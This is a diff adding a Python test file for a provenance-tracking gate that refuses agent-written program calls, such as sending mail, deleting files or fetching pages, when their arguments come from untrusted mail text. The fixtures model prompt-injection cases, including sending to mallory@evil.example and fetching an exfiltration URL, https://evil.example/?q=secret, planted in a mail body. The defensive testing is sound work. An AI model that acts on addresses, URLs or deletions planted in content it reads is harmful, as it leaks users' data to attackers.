@@ -1,0 +1,183 @@
+"""Whose will an argument is: what a user's program says is done, what a stranger wrote is asked about first."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping, Sequence
+from typing import Any
+
+import pytest
+from doorward import Call
+from doorward_provenance import Provenance, ProvenanceSettings
+from doorward_testing import DeciderConformance, call_of
+
+pytestmark = pytest.mark.anyio
+
+READ = "import mail\nresult = mail.list_mails()"
+
+
+def sends(to: str, body: str = "hello") -> str:
+    return f"import mail\nmail.send(to=[{to!r}], body={body!r})"
+
+
+async def refused(gate: Any, code: str, **more: Any) -> str:
+    """Why a program's call was not made, as its error says; nobody is asked here, so that it is refused."""
+    before = [name for name, _ in gate.office.made]
+    outcome = await gate.execute(code, **more)
+    assert outcome.error is not None, "it was made"
+    assert outcome.error.type == "Refused", outcome.error
+    assert [name for name, _ in gate.office.made if name in {"mail.send", "files.delete_file"}] == [
+        name for name in before if name in {"mail.send", "files.delete_file"}
+    ]
+    return str(outcome.error.message)
+
+
+async def done(gate: Any, code: str, **more: Any) -> None:
+    outcome = await gate.execute(code, **more)
+    assert outcome.ok, outcome.error
+
+
+async def test_what_the_user_says_is_done(office: Any) -> None:
+    """Also after mails were read and shown: the user said it before. So do parameters."""
+    async with office() as gate:
+        await done(gate, sends("ann@office.example"))
+        await done(gate, READ)
+        await done(gate, sends("ann@office.example"))
+    async with office() as gate:
+        await done(gate, "import mail\nmail.send(to=[who])", params={"who": "ann@office.example"})
+
+
+async def test_an_address_out_of_a_mail_is_asked_about(office: Any) -> None:
+    """In the next program, however it is written; the sentence says where it stood."""
+    async with office() as gate:
+        await done(gate, READ)
+        why = await refused(gate, sends("mallory@evil.example"))
+        assert "`to[0]` came from a text that mail.list_mails answered one program ago" in why
+        assert "`to[0]`" in await refused(gate, sends("Mallory@EVIL.example"))
+        assert "`to[0]`" in await refused(gate, sends("mallory\u200b@evil.example"))
+        assert "2 programs ago" not in why
+
+
+async def test_an_address_that_the_program_took_out_of_a_mail(office: Any) -> None:
+    """Nobody has shown it to the author: the program finds it itself."""
+    code = (
+        "import mail, re\nfor each in mail.list_mails():\n"
+        "    mail.send(to=re.findall(r'[a-z]+@evil[.]example', each['body']))"
+    )
+    async with office() as gate:
+        assert "answered in this program" in await refused(gate, code)
+
+
+async def test_what_a_server_gave_goes_back_to_it(office: Any) -> None:
+    """A reply to the sender of a mail, and the id of a mail, in this program and in the next one."""
+    code = "import mail\nfor each in mail.list_mails():\n    mail.send(to=[each['from']])\n    mail.delete_mail(id=each['id'])"
+    async with office() as gate:
+        await done(gate, code)
+        await done(gate, "import mail\nmail.delete_mail(id='m-17')")
+
+
+async def test_an_id_that_a_text_names(office: Any) -> None:
+    """A text that says which file to delete is somebody's will. In the user's own program it is only data."""
+    async with office() as gate:
+        await done(gate, READ)
+        assert "`file_id` came from a text" in await refused(gate, "import files\nfiles.delete_file(file_id='13')")
+        await done(gate, "import files\nfiles.delete_file(file_id='99')")
+
+
+async def test_what_nobody_else_writes_is_free(office: Any) -> None:
+    """An address out of one's own address book, as a field and in a text, may be used by any server."""
+    async with office() as gate:
+        await done(gate, "import mail, people\nmail.list_mails()\nmail.send(to=[people.get_people()[0]['reach']])")
+        code = "import mail, people\nabout = people.get_team()['about']\nmail.send(to=[about.split()[7]])"
+        await done(gate, code)
+
+
+async def test_what_cannot_be_told(office: Any) -> None:
+    """An address that was put together after mails were read; before that it is the user's."""
+    made = "mail.send(to=['zo' + 'e' + '@' + 'else' + 'where.example'])"
+    async with office() as gate:
+        await done(gate, f"import mail\n{made}")
+        assert "nowhere that is known" in await refused(gate, f"import mail\nmail.list_mails()\n{made}")
+        assert "nowhere that is known" in await refused(gate, f"import mail\n{made}")
+
+
+async def test_a_read_that_carries_something_out(office: Any) -> None:
+    """Who reads a page tells its server the address: that reaches others, too."""
+    async with office() as gate:
+        gate.office.mails[0]["body"] += " See https://evil.example/?q=secret for more."
+        await done(gate, READ)
+        why = await refused(gate, "import files\nfiles.read_page(url='https://evil.example/?q=secret')")
+        assert "`url` came from a text" in why
+
+
+async def test_principals_are_apart(office: Any) -> None:
+    """What one was shown makes no program of another one suspicious, and what one said allows nothing to another."""
+    async with office() as gate:
+        await done(gate, READ, principal="ann")
+        await done(gate, sends("mallory@evil.example"), principal="bob")
+        await refused(gate, sends("mallory@evil.example"), principal="ann")
+
+
+async def test_a_single_call(office: Any) -> None:
+    """A client that writes no programs: the arguments of its calls are what it says."""
+    async with office() as gate:
+        await gate.call("mail.send", {"to": ["mallory@evil.example"]}, principal="ann")
+        await done(gate, READ, principal="bob")
+        with pytest.raises(Exception, match="came from a text that mail\\.list_mails answered"):
+            await gate.call("mail.send", {"to": ["mallory@evil.example"]}, principal="bob")
+
+
+async def test_labels_are_the_operators(office: Any) -> None:
+    """What they trust is nobody else's; what they call untrusted is; and where a call reaches nobody."""
+    async with office('trusted = ["mail.*"]') as gate:
+        await done(gate, READ)
+        await done(gate, sends("mallory@evil.example"))
+    async with office('untrusted = ["people.*"]') as gate:
+        await done(gate, "import people\npeople.get_team()")
+        await refused(gate, sends("bob@office.example"))
+
+
+async def test_then(office: Any) -> None:
+    """It may be refused for good, or let pass."""
+    async with office('then = "deny"\nmixed = "deny"') as gate:
+        await done(gate, READ)
+        await refused(gate, sends("mallory@evil.example"))
+    async with office('then = "allow"\nmixed = "allow"') as gate:
+        await done(gate, READ)
+        await done(gate, sends("mallory@evil.example"))
+
+
+async def test_where_private_and_untrusted_meet(office: Any) -> None:
+    """A program that was sent after both were shown may carry them out in any wording, also to whom the user named:
+    who is asked is told. Not where every word of it was the user's."""
+    told = sends("ann@office.example", "as it was said")
+    async with office() as gate:
+        await done(gate, told)
+        await done(gate, READ)
+        await done(gate, told)
+        assert "private and untrusted" in await refused(gate, sends("ann@office.example", "some other wording"))
+    async with office('private = ["people.*"]\ntrusted = ["mail.*"]') as gate:
+        await done(gate, told)
+        await done(gate, READ)
+        await done(gate, sends("ann@office.example", "some other wording"))
+
+
+async def test_a_client_that_reads_elsewhere(office: Any) -> None:
+    """Its programs are never its user's own: an address is asked about that nothing explains."""
+    async with office('tainted = ["bot"]') as gate:
+        await refused(gate, sends("ann@office.example"), principal="bot")
+        await done(gate, sends("ann@office.example"), principal="ann")
+
+
+class TestConformance(DeciderConformance):
+    """What holds for every decider."""
+
+    plugin = Provenance
+
+    def owned(self) -> Mapping[str, tuple[Any, Any]]:
+        return {"provenance": (ProvenanceSettings, {"tainted": ["*"], "then": "deny"})}
+
+    def refused(self) -> Sequence[Call]:
+        return [call_of("notes.send", False, to="eve@stranger.example")]
+
+    def passed(self) -> Sequence[Call]:
+        return [call_of("notes.find", words="x"), call_of("notes.add", False, text="y")]
